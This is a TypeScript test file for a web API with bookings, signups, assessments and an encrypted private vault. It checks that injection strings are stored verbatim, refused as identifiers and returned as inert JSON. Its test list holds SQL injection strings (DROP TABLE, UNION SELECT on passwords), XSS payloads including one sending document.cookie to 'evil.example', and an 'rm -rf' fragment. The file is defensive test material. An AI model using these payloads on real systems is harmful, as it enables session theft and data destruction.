/**
 * SQL and script injection text is data: every field people write is stored exactly as written
 * (queries are parameterised, nothing is escaped or stripped on the way in), every table is still
 * there afterwards, and what the API sends back is JSON a browser will not run or sniff as a page
 * (nosniff, a CSP of default-src 'none'). The private vault takes no text of hers at all: the
 * same strings as a locator, a record id, an envelope or a migration token are refused with 400,
 * and the envelopes it does take (her words sealed in her browser) come back byte for byte. An
 * old tool account's plain rows come back exactly as written when they move into her vault.
 * The browser side (shown as text, nothing runs) is in e2e/security.spec.ts; contact messages
 * and community posts have the same check in their own route tests.
 */
import { eq, sql } from 'drizzle-orm';
import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { answerRecordFor, scoreAssessment } from '@core/assessment-scoring';
import { assessmentItems } from '@core/assessment-structure';
import type { VaultMigrationAnswer, VaultRecord, VaultRecordList } from '@core/contracts/vault';
import { toBase64url } from '@core/vault/base64url';
import { openRecord, sealRecord } from '@core/vault/records';
import { buildApp } from '../app';
import { vaultIdFor } from '../auth/vault-sessions';
import type { DatabaseHandle } from '../db/client';
import { vaultRecords } from '../db/schema';
import { changedTables, snapshotDatabase } from '../test-support/database-snapshot';
import { type CookieJar, newVaultLocator, openVault, seedOldToolAccount } from '../test-support/test-app';
import { testConfig } from '../test-support/test-config';
import { testDatabases } from '../test-support/test-database';

const injections = [
  "Robert'); DROP TABLE bookings; --",
  "' OR '1'='1' --",
  "1; DELETE FROM users WHERE 'a'='a",
  "x' UNION SELECT username, password FROM users --",
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror="fetch(`https://evil.example/?c=`+document.cookie)">',
  '"><svg/onload=alert(1)>',
  '{{constructor.constructor("alert(1)")()}} ${7*7} <%= 7*7 %>',
  '\\x00\' \\\'; -- /* */ `rm -rf`',
] as const;

type Rows<T> = { rows: T[] };

describe.each(testDatabases())('injection text is stored verbatim and answered inert on $name', (target) => {
  let database: DatabaseHandle;
  let app: FastifyInstance;
  let jar: CookieJar;
  let locator: string;
  const email = 'verbatim@example.org';
  const passphrase = 'a long enough passphrase';

  beforeAll(async () => {
    database = await target.open();
    app = await buildApp(testConfig({ rateLimitEnabled: false }), { database });
    // An old tool account whose reflections and scripts hold the strings, as the old routes stored them.
    await seedOldToolAccount(database.db, email, passphrase, {
      days: injections.map((text, index) => ({ day: index + 1, reflection: text })),
      scripts: injections.map((text) => ({ toxicBehavior: 'gaslighting', situation: text, generatedScript: `I said: ${text}` })),
    });
    ({ jar, locator } = await openVault(app));
  });
  afterAll(async () => {
    await app?.close();
    await database?.close();
  });

  const column = async <T>(query: ReturnType<typeof sql>) => ((await database.db.execute(query)) as unknown as Rows<T>).rows;
  const expectInertJson = (response: LightMyRequestResponse) => {
    expect(response.headers['content-type']).toMatch(/^application\/json/);
    expect(response.headers['x-content-type-options']).toBe('nosniff');
    expect(response.headers['content-security-policy']).toContain("default-src 'none'");
  };
  /** A well-formed envelope (version byte 1) whose other bytes are the text itself. */
  const envelopeHolding = (text: string) => toBase64url(new Uint8Array([1, ...new TextEncoder().encode(text.padEnd(40, ' '))]));

  it('hands an old account’s reflections and scripts back exactly as written, as JSON', async () => {
    const answer = await app.inject({ method: 'POST', url: '/api/vault/migration', headers: jar.headers(), payload: { email, passphrase } });
    expect(answer.statusCode).toBe(200);
    expectInertJson(answer);
    const moved = answer.json<VaultMigrationAnswer>();
    expect(moved.journey.map((day) => day.reflection)).toEqual([...injections]);
    expect(moved.boundaryScripts.map((script) => script.situation).sort()).toEqual([...injections].sort());
    expect(moved.boundaryScripts.map((script) => script.generatedScript).sort()).toEqual(injections.map((text) => `I said: ${text}`).sort());
  });

  it('refuses the strings as a locator, a record id, an envelope or a token with 400 and a sentence, storing nothing', async () => {
    const before = await snapshotDatabase(database.db);
    const id = crypto.randomUUID();
    const envelope = envelopeHolding('a well-formed envelope');
    for (const text of injections) {
      const refused = [
        await app.inject({ method: 'POST', url: '/api/vault/session', payload: { locator: text } }),
        await app.inject({ method: 'PUT', url: `/api/vault/records/${encodeURIComponent(text)}`, headers: jar.headers(), payload: { envelope, baseVersion: 0 } }),
        await app.inject({ method: 'DELETE', url: `/api/vault/records/${encodeURIComponent(text)}`, headers: jar.headers() }),
        await app.inject({ method: 'PUT', url: `/api/vault/records/${id}`, headers: jar.headers(), payload: { envelope: text, baseVersion: 0 } }),
        await app.inject({ method: 'POST', url: '/api/vault/rekey', headers: jar.headers(), payload: { currentLocator: text, newLocator: newVaultLocator(), records: [] } }),
        await app.inject({
          method: 'POST',
          url: '/api/vault/rekey',
          headers: jar.headers(),
          payload: { currentLocator: locator, newLocator: newVaultLocator(), records: [{ recordId: text, version: 1, envelope }] },
        }),
        await app.inject({ method: 'POST', url: '/api/vault/migration', headers: jar.headers(), payload: { email: text, passphrase } }),
        await app.inject({ method: 'POST', url: '/api/vault/migration/complete', headers: jar.headers(), payload: { migrationToken: text } }),
      ];
      for (const response of refused) {
        expect(response.statusCode, `${text}: ${response.body}`).toBe(400);
        expectInertJson(response);
        expect(response.json<{ error: string }>().error).toMatch(/^[A-Z].*\.$/);
        expect(response.body).not.toContain(text);
      }
      // As a passphrase it is only a passphrase that opens nothing: the empty answer.
      const guess = await app.inject({ method: 'POST', url: '/api/vault/migration', headers: jar.headers(), payload: { email, passphrase: text } });
      expect(guess.json()).toEqual({ journey: [], boundaryScripts: [], migrationToken: null });
    }
    expect(changedTables(before, await snapshotDatabase(database.db))).toEqual([]);
  });

  it('keeps envelopes byte for byte: each comes back as sent and opens to the very text sealed in it', async () => {
    const key = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, false, ['encrypt', 'decrypt']);
    const sent = new Map<string, string>();
    for (const text of injections) {
      const day = crypto.randomUUID();
      const script = crypto.randomUUID();
      const raw = crypto.randomUUID();
      sent.set(day, await sealRecord(key, day, { kind: 'journey-day', day: 1, completed: true, reflection: text }));
      sent.set(script, await sealRecord(key, script, { kind: 'boundary-script', toxicBehavior: 'gaslighting', situation: text, generatedScript: `I said: ${text}`, isFavorite: false }));
      // Not sealed at all: the server neither reads nor changes what an envelope carries.
      sent.set(raw, envelopeHolding(text));
      for (const recordId of [day, script, raw]) {
        const saved = await app.inject({ method: 'PUT', url: `/api/vault/records/${recordId}`, headers: jar.headers(), payload: { envelope: sent.get(recordId), baseVersion: 0 } });
        expect(saved.statusCode, text).toBe(201);
        expectInertJson(saved);
        expect(saved.json<VaultRecord>().envelope).toBe(sent.get(recordId));
      }
    }
    const listed = await app.inject({ method: 'GET', url: '/api/vault/records', headers: jar.headers() });
    expectInertJson(listed);
    const records = listed.json<VaultRecordList>().records;
    expect(new Map(records.map((record) => [record.recordId, record.envelope]))).toEqual(sent);
    const stored = await database.db.select().from(vaultRecords).where(eq(vaultRecords.vaultId, vaultIdFor(testConfig().vaultPepper, locator)));
    expect(new Map(stored.map((row) => [row.recordId, row.envelope]))).toEqual(sent);

    // The unsealed ones do not open (undefined); the sealed ones give back exactly what was sealed.
    const opened = await Promise.all(records.map((record) => openRecord(key, record.recordId, record.envelope).catch(() => undefined)));
    const texts = opened.flatMap((record) => (record?.kind === 'journey-day' ? [record.reflection] : record?.kind === 'boundary-script' ? [record.situation] : []));
    expect(texts.sort()).toEqual([...injections, ...injections].sort());
  });

  it('keeps bookings, signups and assessments exactly as written', async () => {
    const answers = assessmentItems.map((item) => answerRecordFor(item.id, 'a'));
    const result = scoreAssessment(answers);
    for (const [index, text] of injections.entries()) {
      const booking = await app.inject({
        method: 'POST',
        url: '/api/bookings',
        payload: {
          name: text,
          email: 'verbatim@example.org',
          phone: '555-123-4567',
          serviceType: 'consultation',
          preferredDateTime: new Date(Date.now() + 86_400_000).toISOString(),
          notes: text,
        },
      });
      expect(booking.statusCode, text).toBe(201);
      expectInertJson(booking);
      const signup = await app.inject({
        method: 'POST',
        url: '/api/signup',
        payload: { firstName: text, lastName: text, email: `verbatim.${index}@example.org`, interests: [] },
      });
      expect(signup.statusCode, text).toBe(200);
      const assessment = await app.inject({
        method: 'POST',
        url: '/api/assessment',
        payload: { name: text, email: 'verbatim@example.org', answers, score: result.score, riskLevel: result.riskLevel },
      });
      expect(assessment.statusCode, text).toBe(201);
      // Nothing she wrote is echoed back by these three.
      for (const response of [booking, signup, assessment]) expect(response.body).not.toContain(text);
    }
    const bookings = await column<{ name: string; notes: string }>(sql`select name, notes from bookings order by id`);
    expect(bookings.map((row) => row.name)).toEqual([...injections]);
    expect(bookings.map((row) => row.notes)).toEqual([...injections]);
    const signups = await column<{ first_name: string; last_name: string }>(sql`select first_name, last_name from user_signups order by id`);
    expect(signups.map((row) => [row.first_name, row.last_name])).toEqual(injections.map((text) => [text, text]));
    const assessments = await column<{ name: string }>(sql`select name from assessment_results order by id`);
    expect(assessments.map((row) => row.name)).toEqual([...injections]);
  });

  it('leaves every table and every account in place', async () => {
    const tables = await column<{ table_name: string }>(sql`select table_name from information_schema.tables where table_schema = 'public'`);
    for (const table of ['users', 'sessions', 'bookings', 'boundary_scripts', 'affirmation_progress', 'user_signups', 'assessment_results', 'vault_records', 'vault_sessions']) {
      expect(tables.map((row) => row.table_name)).toContain(table);
    }
    const users = await column<{ username: string }>(sql`select username from users`);
    expect(users.map((row) => row.username)).toEqual([email]);
  });
});
